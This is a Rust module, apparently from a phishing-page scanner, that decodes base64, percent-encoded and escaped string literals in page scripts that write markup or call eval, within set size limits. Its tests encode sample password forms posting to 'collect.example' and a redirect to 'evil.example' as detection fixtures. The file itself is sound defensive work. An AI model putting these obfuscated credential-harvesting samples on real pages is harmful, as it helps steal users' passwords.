//! Markup a page's script decodes and writes: string literals passed through `atob`,
//! `unescape` or written with `\x`/`\u` escapes, when the script also writes markup
//! (`document.write`, `innerHTML`, `insertAdjacentHTML`) or evaluates code (`eval`,
//! `Function`). The decoded text is scanned as HTML, so a password form that only exists
//! once the script runs counts as one.
//!
//! Bounded in work: at most [`MAX_PAYLOADS`] literals, each decoded to at most
//! [`MAX_PAYLOAD_BYTES`], [`MAX_TOTAL_BYTES`] in all, and one more level of decoding inside a
//! decoded payload. Everything is linear in the script's length.

use base64::Engine as _;

/// Literals decoded per page.
pub(crate) const MAX_PAYLOADS: usize = 16;
/// Largest decoded literal kept.
pub(crate) const MAX_PAYLOAD_BYTES: usize = 64 * 1024;
/// Decoded bytes per page.
pub(crate) const MAX_TOTAL_BYTES: usize = 256 * 1024;
/// Shortest literal worth decoding (shorter ones are identifiers and tokens).
const MIN_LITERAL: usize = 16;

const SINKS: &[&str] =
    &["document.write", "innerHTML", "outerHTML", "insertAdjacentHTML", "eval(", "Function(", "setTimeout(\""];

/// The decoded payloads of `script`, when it writes or evaluates anything.
pub(crate) fn written_payloads(script: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut total = 0;
    collect(script, 0, &mut out, &mut total);
    out
}

fn collect(script: &str, depth: u8, out: &mut Vec<String>, total: &mut usize) {
    if depth > 1 || !SINKS.iter().any(|s| script.contains(s)) {
        return;
    }
    for (how, literal) in literals(script) {
        if out.len() >= MAX_PAYLOADS || *total >= MAX_TOTAL_BYTES {
            return;
        }
        let decoded = match how {
            How::Base64 => base64_text(literal),
            How::Percent => percent_text(literal),
            How::Escapes => escapes_text(literal),
        };
        let Some(mut text) = decoded.filter(|t| looks_like_markup_or_code(t)) else { continue };
        let room = MAX_PAYLOAD_BYTES.min(MAX_TOTAL_BYTES - *total);
        if text.len() > room {
            let mut cut = room;
            while !text.is_char_boundary(cut) {
                cut -= 1;
            }
            text.truncate(cut);
        }
        *total += text.len();
        let nested = text.clone();
        out.push(text);
        collect(&nested, depth + 1, out, total);
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum How {
    Base64,
    Percent,
    Escapes,
}

/// String literals worth decoding: arguments of `atob(` and `unescape(` / `decodeURIComponent(`,
/// and any literal holding at least four `\x`/`\u` escapes.
fn literals(script: &str) -> impl Iterator<Item = (How, &str)> {
    let bytes = script.as_bytes();
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < bytes.len() {
            let q = bytes[i];
            if q != b'"' && q != b'\'' && q != b'`' {
                i += 1;
                continue;
            }
            let start = i + 1;
            let mut j = start;
            let mut escapes = 0;
            while j < bytes.len() && bytes[j] != q {
                if bytes[j] == b'\\' {
                    if matches!(bytes.get(j + 1), Some(b'x' | b'u')) {
                        escapes += 1;
                    }
                    j += 1;
                }
                j += 1;
            }
            let end = j.min(bytes.len());
            i = end + 1;
            let literal = &script[start..end];
            if literal.len() < MIN_LITERAL {
                continue;
            }
            let before = script[..start - 1].trim_end();
            if before.ends_with("atob(") {
                return Some((How::Base64, literal));
            }
            if before.ends_with("unescape(") || before.ends_with("decodeURIComponent(") {
                return Some((How::Percent, literal));
            }
            if escapes >= 4 {
                return Some((How::Escapes, literal));
            }
        }
        None
    })
}

fn base64_text(literal: &str) -> Option<String> {
    let clean: String = literal.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(clean.trim_end_matches('='))
        .or_else(|_| base64::engine::general_purpose::STANDARD_NO_PAD.decode(clean.trim_end_matches('=')))
        .ok()?;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

fn percent_text(literal: &str) -> Option<String> {
    Some(percent_encoding::percent_decode_str(literal).decode_utf8_lossy().into_owned())
}

/// `\xNN`, `\uNNNN`, `\u{N…}` and the usual single-character escapes.
fn escapes_text(literal: &str) -> Option<String> {
    let mut out = String::with_capacity(literal.len() / 2);
    let mut chars = literal.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next()? {
            'x' => {
                let hex: String = chars.by_ref().take(2).collect();
                out.push(char::from(u8::from_str_radix(&hex, 16).ok()?));
            }
            'u' => {
                let rest = chars.as_str();
                let (hex, skip) = match rest.strip_prefix('{') {
                    Some(braced) => {
                        let close = braced.find('}')?;
                        (&braced[..close], close + 2)
                    }
                    None => (rest.get(..4)?, 4),
                };
                out.push(char::from_u32(u32::from_str_radix(hex, 16).ok()?)?);
                for _ in 0..skip {
                    chars.next();
                }
            }
            'n' => out.push('\n'),
            't' => out.push('\t'),
            other => out.push(other),
        }
    }
    Some(out)
}

/// Decoded text that is worth scanning: markup, or code that navigates or writes.
fn looks_like_markup_or_code(text: &str) -> bool {
    let lower = text.get(..text.len().min(4096)).unwrap_or(text).to_ascii_lowercase();
    lower.contains('<') || lower.contains("location") || lower.contains("document.")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn atob_hex_and_percent_literals_are_decoded_when_written() {
        let form = r#"<form action="https://collect.example/p"><input type="password" name="pw"></form>"#;
        let b64 = base64::engine::general_purpose::STANDARD.encode(form);
        let script = format!("document.write(atob(\"{b64}\"));");
        assert_eq!(written_payloads(&script), vec![form.to_owned()]);

        let hex: String = form.bytes().map(|b| format!("\\x{b:02x}")).collect();
        let script = format!("var s = '{hex}'; document.body.innerHTML = s;");
        assert_eq!(written_payloads(&script), vec![form.to_owned()]);

        let script = "eval(unescape('%3Cscript%3Elocation.href%3D%22https%3A%2F%2Fevil.example%2F%22%3C%2Fscript%3E'))";
        assert!(written_payloads(script)[0].contains("https://evil.example/"));
    }

    #[test]
    fn nothing_is_decoded_without_a_sink_and_nested_payloads_are_followed_once() {
        let b64 = base64::engine::general_purpose::STANDARD.encode("<b>hello world, nothing here</b>");
        assert!(written_payloads(&format!("var x = atob(\"{b64}\");")).is_empty());
        let inner = base64::engine::general_purpose::STANDARD.encode("<form><input type=password></form>");
        let outer = base64::engine::general_purpose::STANDARD.encode(format!("document.write(atob('{inner}'))"));
        let payloads = written_payloads(&format!("eval(atob('{outer}'))"));
        assert_eq!(payloads.len(), 2, "{payloads:?}");
        assert!(payloads[1].contains("password"));
    }

    #[test]
    fn decoding_is_bounded() {
        let big = base64::engine::general_purpose::STANDARD.encode("<p>".repeat(100_000));
        let script = format!("document.write(atob('{big}'));").repeat(40);
        let payloads = written_payloads(&script);
        assert!(payloads.len() <= MAX_PAYLOADS);
        assert!(payloads.iter().all(|p| p.len() <= MAX_PAYLOAD_BYTES));
        assert!(payloads.iter().map(String::len).sum::<usize>() <= MAX_TOTAL_BYTES);
    }

    proptest::proptest! {
        #[test]
        fn any_script_decodes_within_bounds(
            body in "[ -~\\\\]{0,400}",
            sink in proptest::sample::select(vec!["document.write(", "eval(", "x.innerHTML = ", "atob("]),
        ) {
            let script = format!("{sink}atob('{body}') + '{body}' + unescape(\"{body}\"))");
            let payloads = written_payloads(&script);
            proptest::prop_assert!(payloads.len() <= MAX_PAYLOADS);
            proptest::prop_assert!(payloads.iter().map(String::len).sum::<usize>() <= MAX_TOTAL_BYTES);
        }
    }

    #[test]
    fn malformed_literals_are_skipped() {
        for script in [
            "document.write(atob('!!!! not base64 at all !!!!'))",
            "document.write('\\xZZ\\xZZ\\xZZ\\xZZ\\xZZ\\xZZ')",
            "document.write('\\u{110000}\\u{1}\\u{2}\\u{3}\\u{4}')",
            "document.write(\"unterminated \\x41\\x42\\x43\\x44",
        ] {
            let _ = written_payloads(script);
        }
        assert!(written_payloads("document.write(atob('!!!! not base64 at all !!!!'))").is_empty());
    }
}
